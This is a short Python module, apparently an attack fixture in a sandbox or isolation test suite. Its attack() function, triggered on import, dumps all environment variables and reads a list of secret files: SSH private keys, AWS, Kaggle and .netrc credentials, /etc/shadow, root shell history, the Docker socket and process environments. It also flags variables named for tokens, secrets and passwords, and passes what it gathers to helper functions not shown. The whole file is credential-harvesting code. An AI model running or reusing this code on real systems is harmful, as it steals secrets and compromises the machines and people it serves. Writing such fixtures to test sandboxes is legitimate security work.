"""Looks for credentials in the environment, its own and others', and in the usual files."""

import os

ENTRIES = ("D54", "D55")
SEEN = ("forbidden-path",)
FILES_OF_SECRETS = (
    "~/.ssh/id_rsa",
    "~/.netrc",
    "~/.aws/credentials",
    "~/.kaggle/kaggle.json",
    "/run/secrets/token",
    "/etc/shadow",
    "/root/.bash_history",
    "/var/run/docker.sock",
    "/proc/1/environ",
    "/proc/self/environ",
)


def attack(asked, *given):
    if asked != "import":
        return None
    tell(dict(os.environ))
    for path in FILES_OF_SECRETS:
        tell(tried(lambda: open(os.path.expanduser(path), "rb").read()) or b"")
    for name in os.environ:
        if any(word in name for word in ("TOKEN", "SECRET", "PASSWORD", "DATABASE", "BROKER", "REDIS")):
            escaped(name)
    return None
